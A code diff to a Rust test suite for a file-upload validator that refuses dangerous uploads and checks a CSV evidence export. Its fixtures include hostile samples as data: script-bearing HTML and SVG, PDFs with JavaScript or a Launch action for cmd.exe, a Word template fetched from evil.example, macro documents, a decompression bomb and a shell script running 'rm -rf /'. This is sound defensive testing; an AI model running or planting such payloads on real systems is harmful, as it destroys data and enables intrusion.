@@ -35,69 +35,79 @@ async fn hand_in(app: &App) {
     assert_eq!(reply.status, 303, "{}", reply.body);
 }
 
-/// Files that are not taken, with the name they come under and the beginning of the reason.
-fn refused() -> Vec<(&'static str, Vec<u8>, &'static str)> {
-    let script = "<html><script>alert(1)</script></html>".as_bytes();
-    let together = |first: Vec<u8>, second: &[u8]| [first.as_slice(), second].concat();
-    let macros = parts_of("x")
-        .replace("vnd.openxmlformats-officedocument.x", "vnd.ms-word.document.macroEnabled.main+xml");
-    let template = "<Relationships><Relationship Id=\"r1\" Type=\"http://a.example/attachedTemplate\" \
-                    Target=\"https://evil.example/x.dotm\" TargetMode=\"External\"/></Relationships>";
-    let active = |action: &'static str| {
-        pdf(|_, catalogue| {
-            let act = dictionary! { "S" => action, "JS" => Object::string_literal("app.alert(1)") };
-            catalogue.set("OpenAction", act);
-        })
-    };
+/// A file, the name it comes under, and the beginning of the reason why it is not taken.
+type Refused = (&'static str, Vec<u8>, &'static str);
+
+const SCRIPT: &[u8] = b"<html><script>alert(1)</script></html>";
+const DRAWING: &[u8] = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>";
+/// How the files of old office programs begin.
+const OLD_OFFICE: &[u8] = &[0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
+/// A template that is fetched when the document is opened.
+const TEMPLATE: &[u8] = b"<Relationships><Relationship Id=\"r1\" Type=\"http://a.example/attachedTemplate\" \
+                          Target=\"https://evil.example/x.dotm\" TargetMode=\"External\"/></Relationships>";
+
+fn together(first: &[u8], second: &[u8]) -> Vec<u8> {
+    [first, second].concat()
+}
+
+fn pictures_and_texts() -> Vec<Refused> {
+    let archive = package(&[("a.txt", b"a")]);
+    vec![
+        ("photo.png", SCRIPT.to_vec(), "This is a web page"),
+        ("photo.png", DRAWING.to_vec(), "This is a web page"),
+        ("list.csv", b"a,b\n<script>alert(1)</script>,2\n".to_vec(), "This is a web page"),
+        ("photo.png", together(&png(), &archive), "Something else hides"),
+        ("photo.jpg", together(&jpeg(), SCRIPT), "Something else hides"),
+        ("photo.png", png()[..2000].to_vec(), "The file cannot be read to its end"),
+        ("order.txt", b"#!/bin/sh\nrm -rf /\n".to_vec(), "This is a program"),
+        ("order.pdf", b"MZ\x90\x00\x03\x00\x00\x00".to_vec(), "This is a program"),
+        ("order.txt", vec![0xcf, 0xf0, 0xe8, 0xea, 0xe0, 0xe7], "The text is not in UTF-8"),
+        ("film.mp4", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom".to_vec(), "Files of this kind"),
+        ("empty.pdf", Vec::new(), "The file is empty"),
+    ]
+}
+
+fn papers() -> Vec<Refused> {
+    let script = pdf(|_, catalogue| {
+        let act = dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") };
+        catalogue.set("OpenAction", act);
+    });
     let launch =
         pdf(|_, catalogue| catalogue.set("OpenAction", dictionary! { "S" => "Launch", "F" => "cmd.exe" }));
     let carrying = pdf(|document, catalogue| {
         let file = document.add_object(Stream::new(dictionary! { "Type" => "EmbeddedFile" }, b"MZ".to_vec()));
         catalogue.set("Attached", file);
     });
-    let nested = docx(&[("word/embeddings/a.docx", &docx(&[("word/embeddings/b.docx", &docx(&[]))]))]);
-    let bomb = docx(&[("word/media/zeros.xml", &vec![b' '; 300 * 1024 * 1024])]);
+    let polyglot = together(&pdf(|_, _| {}), &package(&[("a.txt", b"a")]));
     vec![
-        ("photo.png", script.to_vec(), "This is a web page"),
-        (
-            "photo.png",
-            b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec(),
-            "This is a web page",
-        ),
-        ("list.csv", b"a,b\n<script>alert(1)</script>,2\n".to_vec(), "This is a web page"),
-        ("photo.png", together(png(), &package(&[("a.txt", b"a")])), "Something else hides"),
-        ("photo.jpg", together(jpeg(), script), "Something else hides"),
-        ("photo.png", png()[..2000].to_vec(), "The file cannot be read to its end"),
-        ("report.pdf", active("JavaScript"), "The PDF has a script"),
+        ("report.pdf", script, "The PDF has a script"),
         ("report.pdf", launch, "The PDF has a script"),
         ("report.pdf", carrying, "The PDF has a script"),
-        ("report.pdf", together(pdf(|_, _| {}), &package(&[("a.txt", b"a")])), "Something else hides"),
+        ("report.pdf", polyglot, "Something else hides"),
         ("report.pdf", b"%PDF-1.7 nothing".to_vec(), "The file cannot be read to its end"),
-        ("order.docx", package(&[("[Content_Types].xml", macros.as_bytes())]), "The document has macros"),
-        ("order.docx", docx(&[("word/vbaProject.bin", b"x")]), "The document has macros"),
-        (
-            "order.docx",
-            docx(&[("word/_rels/settings.xml.rels", template.as_bytes())]),
-            "The document has another file",
-        ),
-        (
-            "order.docx",
-            docx(&[("word/embeddings/a.bin", &[0xd0, 0xcf, 0x11, 0xe0])]),
-            "The document has another file",
-        ),
+    ]
+}
+
+/// A Word document with another part.
+fn with(name: &str, content: &[u8]) -> Vec<u8> {
+    docx(&[(name, content)])
+}
+
+fn office_files() -> Vec<Refused> {
+    let macros = parts_of("x")
+        .replace("vnd.openxmlformats-officedocument.x", "vnd.ms-word.document.macroEnabled.main+xml");
+    let macros = package(&[("[Content_Types].xml", macros.as_bytes())]);
+    let nested = with("word/embeddings/a.docx", &with("word/embeddings/b.docx", &docx(&[])));
+    let bomb = with("word/media/zeros.xml", &vec![b' '; 300 * 1024 * 1024]);
+    vec![
+        ("order.docx", macros, "The document has macros"),
+        ("order.docx", with("word/vbaProject.bin", b"x"), "The document has macros"),
+        ("order.docx", with("word/_rels/settings.xml.rels", TEMPLATE), "The document has another file"),
+        ("order.docx", with("word/embeddings/a.bin", OLD_OFFICE), "The document has another file"),
         ("order.docx", bomb, "The file grows beyond bearing"),
         ("order.docx", nested, "The file grows beyond bearing"),
         ("order.docx", package(&[("order.txt", b"a")]), "This is an archive"),
-        (
-            "order.doc",
-            vec![0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1],
-            "This is a file of an old office program",
-        ),
-        ("order.pdf", b"MZ\x90\x00\x03\x00\x00\x00".to_vec(), "This is a program"),
-        ("order.txt", b"#!/bin/sh\nrm -rf /\n".to_vec(), "This is a program"),
-        ("order.txt", vec![0xcf, 0xf0, 0xe8, 0xea, 0xe0, 0xe7], "The text is not in UTF-8"),
-        ("film.mp4", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom".to_vec(), "Files of this kind"),
-        ("empty.pdf", Vec::new(), "The file is empty"),
+        ("order.doc", OLD_OFFICE.to_vec(), "This is a file of an old office program"),
     ]
 }
 
@@ -105,7 +115,7 @@ on_both_engines! {
     async fn what_would_run_or_hide_is_refused_with_a_reason(database: Database) {
         let app = App::new(database).await;
         let mut aysel = app.browser(&app.people.aysel).await;
-        for (name, bytes, reason) in refused() {
+        for (name, bytes, reason) in [pictures_and_texts(), papers(), office_files()].concat() {
             let reply = send(&mut aysel, &app, name, &bytes).await;
             assert_eq!(reply.status, 422, "{name}: {reason}");
             assert!(reply.says(reason), "{name}, {reason}: {}", reply.body);
@@ -261,6 +271,11 @@ on_both_engines! {
         }
         let frozen = app.assessment.store.snapshot(app.response).await.unwrap().unwrap().content;
         assert!(frozen.contains("Order No 12") && !frozen.contains("Minutes"), "{frozen}");
+        let folder = tempfile::tempdir().unwrap();
+        app.assessment.export(app.round.id, folder.path()).await.unwrap();
+        let rows = std::fs::read_to_string(folder.path().join("evidence.csv")).unwrap();
+        assert!(rows.contains("law-in-force,order,Order No 12,2025-03-14,,nhri,file,order.png,"), "{rows}");
+        assert_eq!(rows.lines().count(), 2, "{rows}");
     }
 
     async fn what_was_handed_in_stays(database: Database) {
